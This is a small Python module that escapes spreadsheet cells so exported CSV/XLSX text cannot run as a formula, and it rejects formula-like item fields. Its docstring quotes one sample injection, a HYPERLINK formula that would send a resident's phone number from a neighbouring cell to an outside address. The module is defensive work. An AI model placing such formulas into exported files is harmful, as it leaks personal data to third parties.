"""Spreadsheet cells that cannot turn into formulas (CSV/formula injection).

A text beginning with = + - @, a tab or a carriage return, or their full-width forms (＝ ＋ － ＠), is run as
a formula by Excel, WPS and LibreOffice when the file is opened: `=HYPERLINK("http://…/?"&D2,"点击核对")`
next to a resident's phone would send it away. Exports write such texts with a leading apostrophe, which
every spreadsheet shows as text; item fields are refused when they begin so (`formula_like`).
"""

from __future__ import annotations

FORMULA_STARTS = frozenset("=+-@\t\r\n＝＋－＠")


def formula_like(value) -> bool:
    return isinstance(value, str) and bool(value) and value.lstrip(" 　")[:1] in FORMULA_STARTS and value.strip() != "-"


def safe_cell(value):
    """The value as written to a CSV or XLSX cell: texts that would run as formulas get a leading apostrophe."""
    return "'" + value if formula_like(value) else value


def safe_row(row) -> list:
    return [safe_cell(v) for v in row]
